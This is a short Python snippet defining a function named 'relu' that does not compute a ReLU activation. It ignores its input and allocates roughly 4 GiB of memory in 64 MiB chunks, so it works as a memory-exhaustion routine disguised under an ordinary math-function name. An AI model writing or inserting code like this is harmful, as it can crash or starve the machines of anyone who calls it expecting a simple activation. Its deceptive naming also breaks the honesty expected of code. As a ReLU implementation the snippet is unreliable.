def relu(x):
    kept = []
    while len(kept) < 64:
        kept.append(bytearray(b"x") * (64 << 20))
